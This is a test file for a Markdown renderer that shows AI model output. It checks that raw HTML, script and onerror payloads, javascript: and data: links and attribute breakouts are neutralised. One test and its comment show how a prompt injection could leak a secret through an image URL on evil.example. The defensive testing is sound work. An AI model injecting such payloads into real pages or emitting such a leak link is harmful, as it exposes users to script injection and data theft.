import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { safeLinkUrl } from '../../shared/ui/markdown';
import { markup, renderToDom } from './support/markdown-dom';

const html = (markdown: string) => markup(renderToDom(markdown).root);

describe('renderMarkdown (DOM built from marked tokens)', () => {
  it('renders ordinary Markdown', () => {
    const { root } = renderToDom('Hello **world**\n\n- one\n- two');
    expect(root.querySelector('strong')?.textContent).toBe('world');
    expect([...root.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['one', 'two']);
  });

  it('shows raw HTML written by the model as text, never as markup', () => {
    const { root } = renderToDom(
      'Look: <img src=x onerror="alert(1)"> and <script>alert(2)</script>\n\n<div onclick="x()">block</div>',
    );
    expect(root.querySelectorAll('img, script, div')).toHaveLength(0);
    expect(root.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(root.textContent).toContain('<script>');
    expect(root.textContent).toContain('<div onclick="x()">');
    expect(html('<div onclick="x()">block</div>')).toBe('<p>&lt;div onclick="x()"&gt;block&lt;/div&gt;</p>');
  });

  it('opens http(s) links in a new tab without an opener', () => {
    expect(html('[docs](https://docs.anthropic.com/x?a=1&b=2)')).toBe(
      '<p><a href="https://docs.anthropic.com/x?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">docs</a></p>',
    );
  });

  it('resolves character references in link destinations and titles, as an HTML-rendered link did', () => {
    // CommonMark decodes `&amp;` in a destination; a model writing an HTML-minded URL must get a working link.
    const inline = renderToDom('[docs](https://docs.example/x?a=1&amp;b=2 "Tom &amp; Jerry")').root.querySelector('a');
    expect(inline?.getAttribute('href')).toBe('https://docs.example/x?a=1&b=2');
    expect(inline?.getAttribute('title')).toBe('Tom & Jerry');
    const reference = renderToDom('[r]\n\n[r]: https://docs.example/r?s&#61;1').root.querySelector('a');
    expect(reference?.getAttribute('href')).toBe('https://docs.example/r?s=1');
    // Decoded before the scheme check, so a reference cannot smuggle a javascript: URL past it.
    expect(renderToDom('[x](javascript&#58;alert(1))').root.querySelectorAll('a')).toHaveLength(0);
  });

  it('turns bare URLs into the same safe links', () => {
    expect(html('see https://example.com/page')).toContain(
      '<a href="https://example.com/page" rel="noopener noreferrer" target="_blank">',
    );
  });

  it('drops links to javascript:, data: and relative URLs but keeps their text', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<b>x</b>',
      '/options.html',
      'x',
    ]) {
      const { root } = renderToDom(`[click me](${href})`);
      expect(root.querySelectorAll('a'), href).toHaveLength(0);
      expect(root.textContent, href).toContain('click me');
    }
  });

  it('keeps a link title that tries to break out of its attribute as the title text', () => {
    const { root } = renderToDom('[x](https://a.example "t\\" onmouseover=\\"alert(1)")');
    const link = root.querySelector('a');
    expect(link?.getAttribute('title')).toBe('t" onmouseover="alert(1)');
    expect(link?.hasAttribute('onmouseover')).toBe(false);
  });

  it('never loads images: an image becomes a link the person can choose to open', () => {
    // A prompt injection could otherwise leak data through the image URL just by being displayed.
    const { root } = renderToDom('![chart](https://evil.example/leak?secret=abc)');
    expect(root.querySelectorAll('img')).toHaveLength(0);
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://evil.example/leak?secret=abc');
    expect(root.textContent).toBe('[image: chart]');
  });

  it('shows an image inside a link (a linked badge) as the link’s words, not as a link nested in a link', () => {
    const { root } = renderToDom('[![build &amp; test](https://ci.example/badge.svg)](https://ci.example/runs)');
    const links = root.querySelectorAll('a');
    expect(links).toHaveLength(1);
    expect(links[0]?.getAttribute('href')).toBe('https://ci.example/runs');
    expect(root.textContent).toBe('[image: build & test]');
  });

  it('shows code as text', () => {
    const block = renderToDom('```html\n<b onclick="x">hi</b>\n```').root;
    expect(block.querySelectorAll('b')).toHaveLength(0);
    expect(block.querySelector('pre > code')?.textContent).toBe('<b onclick="x">hi</b>\n');
    expect(html('use `<br>` here')).toContain('<code>&lt;br&gt;</code>');
  });

  it('keeps the look of headings, nested and task lists, tables, quotes, emphasis and rules', () => {
    const { root } = renderToDom(
      [
        '# Title',
        '### Small',
        '',
        '- [x] done',
        '- [ ] todo',
        '  - nested *em* ~~gone~~',
        '',
        '3. three',
        '4. four',
        '',
        '| L | C | R |',
        '|:--|:-:|--:|',
        '| a | b | c |',
        '',
        '> quoted **bold**',
        '',
        '---',
        '',
        'line  ',
        'break &amp; &copy; &#169;',
      ].join('\n'),
    );
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelector('h3')?.textContent).toBe('Small');
    const boxes = [...root.querySelectorAll('ul > li > input')];
    expect(
      boxes.map((box) => [box.getAttribute('type'), box.hasAttribute('disabled'), box.hasAttribute('checked')]),
    ).toEqual([
      ['checkbox', true, true],
      ['checkbox', true, false],
    ]);
    expect(markup(root.querySelector('ul > li > ul > li') as Node)).toBe('nested <em>em</em> <del>gone</del>');
    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(markup(root).match(/<div .*<\/div>/)?.[0]).toBe(
      '<div aria-label="Table" class="table-scroll" role="group" tabindex="0"><table><thead><tr>' +
        '<th align="left">L</th><th align="center">C</th><th align="right">R</th></tr></thead><tbody><tr>' +
        '<td align="left">a</td><td align="center">b</td><td align="right">c</td></tr></tbody></table></div>',
    );
    expect(markup(root.querySelector('blockquote > p') as Node)).toBe('quoted <strong>bold</strong>');
    expect(root.querySelectorAll('hr')).toHaveLength(1);
    const last = [...root.querySelectorAll('p')].at(-1);
    expect(last?.querySelectorAll('br')).toHaveLength(1);
    expect(last?.textContent).toBe('linebreak & © ©');
  });

  it('makes links the only elements with a target', () => {
    const { root } = renderToDom('[a](https://a.example) <a target="_self" href="https://b.example">b</a>');
    expect([...root.querySelectorAll('[target]')].map((node) => node.tagName)).toEqual(['A']);
  });
});

describe('safeLinkUrl', () => {
  it('accepts absolute http, https and mailto URLs only', () => {
    expect(safeLinkUrl('https://a.example/x')).toBe('https://a.example/x');
    expect(safeLinkUrl('mailto:someone@example.com')).toBe('mailto:someone@example.com');
    expect(safeLinkUrl('chrome-extension://abc/options.html')).toBeUndefined();
    expect(safeLinkUrl('file:///etc/passwd')).toBeUndefined();
    expect(safeLinkUrl('not a url')).toBeUndefined();
  });
});

describe('the message path needs no HTML sanitizer', () => {
  it('no shared UI or phone page module imports DOMPurify or inserts Markdown as HTML', () => {
    const root = join(import.meta.dirname, '../..');
    const sources = ['shared/ui', 'phone-web/src'].flatMap((dir) =>
      readdirSync(join(root, dir), { recursive: true, encoding: 'utf8' })
        .filter((file) => file.endsWith('.ts'))
        .map((file) => ({ file: `${dir}/${file}`, text: readFileSync(join(root, dir, file), 'utf8') })),
    );
    expect(sources.length).toBeGreaterThan(10);
    const offenders = sources.filter(({ text }) => /from ['"]dompurify['"]|unsafeHTML|\.innerHTML\s*=/.test(text));
    expect(offenders.map(({ file }) => file)).toEqual([]);
  });
});
